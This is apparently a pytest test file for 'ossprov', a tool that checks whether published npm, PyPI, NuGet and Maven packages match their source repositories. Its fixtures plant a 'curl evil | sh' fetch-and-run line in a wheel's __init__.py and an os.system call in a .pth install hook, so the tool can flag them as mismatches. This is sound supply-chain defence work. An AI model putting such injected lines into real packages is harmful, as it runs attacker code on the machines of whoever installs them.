"""The stage runner: the verdict over every stage and artifact, the work done once, removed versions,
--artifact matched by digest, offline local packages, per-package failures in a scan."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from ossprov import stages
from ossprov.errors import OssprovError
from ossprov.fixtures.nuget import nuspec, publish_nuget
from ossprov.fixtures.world import World
from ossprov.model import Severity, Verdict
from ossprov.scan.parsers.base import Dependency, Location
from ossprov.scan.run import ScanOptions, scan_one
from ossprov.source import locate as source_locate
from tests.conftest import only_result

CLEAN = "X = 1\n"
PY_FILES = {"pyproject.toml": '[project]\nname = "snake"\nversion = "1.0"\n', "snake/__init__.py": CLEAN}


def _ossprov(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "ossprov", *args], capture_output=True, text=True, timeout=300)


def plain(world: World, name: str = "plain") -> Path:
    repo, pkg = world.npm_project(f"acme/{name}", name, "1.0.0", {"lib/helper.js": "exports.h = 1;\n"})
    repo.commit("release")
    return world.npm_pack(pkg)


def test_clean_sdist_beside_injected_wheel_is_mismatch_naming_the_wheel(world: World) -> None:
    repo = world.repo("acme/snake")
    repo.commit("release", PY_FILES)
    purl = world.publish_pypi("snake", "1.0", PY_FILES, metadata={"Project-URL": ["Source, https://github.com/acme/snake"]},
                              wheel_files={"snake/__init__.py": CLEAN + "import os; os.system('curl evil | sh')\n"})
    proc = _ossprov("verify", purl, "--format", "json")
    assert proc.returncode == 1, proc.stderr
    doc = only_result(proc.stdout)
    assert doc["verdict"] == "mismatch"
    by_file = {a["artifact"]["filename"]: a for a in doc["artifacts"]}
    assert by_file["snake-1.0.tar.gz"]["verdict"] in ("faithful", "faithful-with-build-output")
    assert by_file["snake-1.0-py3-none-any.whl"]["verdict"] == "mismatch"
    highs = [f for f in doc["findings"] if f["severity"] == "high"]
    assert highs and all(f["artifact"] == "snake-1.0-py3-none-any.whl" for f in highs)
    assert any(f["path"] == "snake/__init__.py" for f in highs)
    narrowed = _ossprov("verify", purl, "--format", "json", "--artifact-filter", "*.tar.gz")
    assert narrowed.returncode == 0 and [a["artifact"]["filename"] for a in only_result(narrowed.stdout)["artifacts"]] \
        == ["snake-1.0.tar.gz"]


def test_identical_files_of_several_wheels_are_compared_once(world: World) -> None:
    repo = world.repo("acme/snake")
    repo.commit("release", PY_FILES)
    purl = world.publish_pypi("snake", "1.0", PY_FILES, metadata={"Project-URL": ["Source, https://github.com/acme/snake"]},
                              wheel_files={"snake/__init__.py": CLEAN})
    result = stages.verify(purl)
    wheel = next(a for a in result.artifacts if a.kind == "wheel")
    assert result.verdict is not Verdict.MISMATCH, result.findings
    assert wheel.shared == 1 and wheel.content_root == ""  # snake/__init__.py: same bytes as in the sdist


def test_removed_version_is_a_result(world: World) -> None:
    world.publish_npm(plain(world, "gone"))
    world.publish_npm(world.npm_pack(world.npm_project("acme/gone2", "gone", "1.0.1")[1]))
    world.unpublish_npm("gone", "1.0.0")
    proc = _ossprov("verify", "pkg:npm/gone@1.0.0", "--format", "json")
    assert proc.returncode == 1, proc.stderr
    doc = only_result(proc.stdout)
    assert doc["verdict"] == "removed" and doc["findings"][0]["rule"] == "OSP513"
    assert any(e["kind"] == "version-removed" for e in doc["evidence"])
    assert "1.0.1" in json.dumps(doc["evidence"])


def test_renamed_tampered_artifact_gets_the_digest_finding(world: World, tmp_path: Path) -> None:
    tarball = plain(world)
    purl = world.publish_npm(tarball)
    evil = World.tamper_npm(tarball, {"lib/helper.js": b"exports.h = 2;\n"}, tmp_path / "whatever-name.tgz")
    result = stages.verify(purl, artifact=evil)
    assert result.verdict is Verdict.MISMATCH
    assert any(f.rule == "OSP100" and f.severity is Severity.HIGH for f in result.findings)
    renamed_genuine = tmp_path / "renamed.tgz"
    renamed_genuine.write_bytes(tarball.read_bytes())
    genuine = stages.verify(purl, artifact=renamed_genuine)
    assert genuine.locate.artifact and genuine.locate.artifact.digest_ok is True
    assert genuine.locate.artifact.filename == tarball.name and genuine.verdict is Verdict.FAITHFUL


def test_local_nupkg_without_a_feed_verifies_offline(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    repo = world.repo("acme/tool")
    sha = repo.commit("release", {"src/Tool/content/readme.txt": "Acme tool\n", "src/Tool/Tool.cs": "class T {}\n"})
    spec = nuspec("Acme.Tool", "1.2.3", repository="https://github.com/acme/tool.git", commit=sha)
    publish_nuget(world, "Acme.Tool", "1.2.3", spec, {"content/readme.txt": "Acme tool\n"})
    nupkg = next((world.root / "registry" / "nuget" / "flat").rglob("*.nupkg"))
    monkeypatch.delenv("OSSPROV_NUGET_SOURCE")
    result = stages.verify("pkg:nuget/Acme.Tool@1.2.3", artifact=nupkg)
    assert result.locate.commit == sha and result.locate.artifact and result.locate.artifact.digest_ok is None
    assert any(e.kind == "artifact-digest" and "not checked" in e.detail for e in result.locate.evidence)
    assert result.verdict is not Verdict.MISMATCH, result.findings


def test_verify_and_practices_read_the_registry_and_check_the_clone_once(world: World,
                                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    purl = world.publish_npm(plain(world, "counted"))
    clones: list[str] = []
    real = source_locate.ensure_clone
    monkeypatch.setattr(source_locate, "ensure_clone", lambda url, **kw: clones.append(url) or real(url, **kw))
    assert world.server
    world.server.requests.clear()
    run = stages.run_stages(purl, ["verify", "practices"], stages.Settings(token_env=None))
    assert run.verify and run.verify.verdict is Verdict.FAITHFUL and run.practices is not None
    assert run.practices.package is not None  # the maintenance signals came from the same packument
    packuments = [p for _, p in world.server.requests if p.startswith("/npm/")]
    assert packuments == ["/npm/counted"] and clones == ["https://github.com/acme/counted"]


def test_a_failing_package_is_its_own_result_in_a_scan(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(purl: str, wanted: object, settings: object) -> object:
        raise KeyError("a bug")

    monkeypatch.setattr("ossprov.scan.run.run_stages", broken)
    item = scan_one(Dependency("pkg:npm/x@1.0.0", "x", "1.0.0", "npm", {}, Location("package-lock.json", 3)))
    assert item.result is None and item.error and "internal error" in item.error and "KeyError" in item.error
    with pytest.raises(OssprovError):
        stages.run_stages("pkg:npm/x@1.0.0", ["nonsense"])


def test_local_jar_without_a_repository_configured_verifies_offline(world: World, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from ossprov.fixtures.maven import jar_bytes, pom_xml
    from tests.ecosystems.test_maven import project

    _, sha = project(world)
    jar = tmp_path / "greeter-1.0.0.jar"
    jar.write_bytes(jar_bytes({"org/acme/messages.properties": "hello=Hello\n",
                               "git.properties": f"git.commit.id={sha}\n",
                               "META-INF/maven/org.acme/greeter/pom.xml":
                                   pom_xml("org.acme", "greeter", "1.0.0", scm="https://github.com/acme/greeter")}))
    monkeypatch.delenv("OSSPROV_MAVEN_REPOSITORY")
    result = stages.verify("pkg:maven/org.acme/greeter@1.0.0", artifact=jar)
    assert result.locate.commit == sha, result.locate.evidence
    assert any(e.kind == "artifact-digest" and "not checked" in e.detail for e in result.locate.evidence)
    assert result.verdict is not Verdict.MISMATCH, result.findings


def test_a_lockfile_version_the_registry_never_lists_is_removed_with_the_lockfile_digest(world: World) -> None:
    world.publish_npm(plain(world, "vanished"))
    dep = Dependency("pkg:npm/vanished@1.0.1", "vanished", "1.0.1", "npm", {"sha512": "ab" * 64},
                     Location("package-lock.json", 7))
    item = scan_one(dep, None, ScanOptions(stages=("rebuild",)))
    assert item.category == "removed" and item.result is not None
    assert any(f.rule == "OSP513" and f.severity is Severity.HIGH for f in item.findings)
    lockfile = next(e for e in item.result.locate.evidence if e.kind == "lockfile")
    assert "package-lock.json:7" in lockfile.detail and "sha512 abababab" in lockfile.detail
    assert "error" in item.stages["rebuild"]


def test_a_src_layout_wheel_sits_under_src_and_shares_the_sdists_comparison(world: World) -> None:
    files = {"pyproject.toml": PY_FILES["pyproject.toml"], "src/snake/__init__.py": CLEAN,
             "src/snake/core.py": "def f():\n    return 1\n"}
    world.repo("acme/snake").commit("release", files)
    purl = world.publish_pypi("snake", "1.0", files, metadata={"Project-URL": ["Source, https://github.com/acme/snake"]},
                              wheel_files={"snake/__init__.py": CLEAN, "snake/core.py": files["src/snake/core.py"]})
    result = stages.verify(purl)
    wheel = next(a for a in result.artifacts if a.kind == "wheel")
    assert wheel.content_root == "src/" and wheel.shared == 2, wheel
    assert {r.path: r.status.value for r in wheel.file_results}["snake/core.py"] == "identical"
    assert result.verdict is not Verdict.MISMATCH, result.findings


def test_a_pth_file_in_a_wheel_without_a_repository_is_mismatch_not_unverifiable(world: World) -> None:
    purl = world.publish_pypi("orphan", "1.0", {"orphan/__init__.py": CLEAN},
                              wheel_files={"orphan/__init__.py": CLEAN, "orphan-hook.pth": "import os; os.system('id')\n"})
    result = stages.verify(purl)
    assert not result.locate.located
    assert result.verdict is Verdict.MISMATCH, result.reason
    assert any(f.rule == "OSP131" and f.artifact == "orphan-1.0-py3-none-any.whl" for f in result.findings)
    assert "no source repository could be found" in result.reason
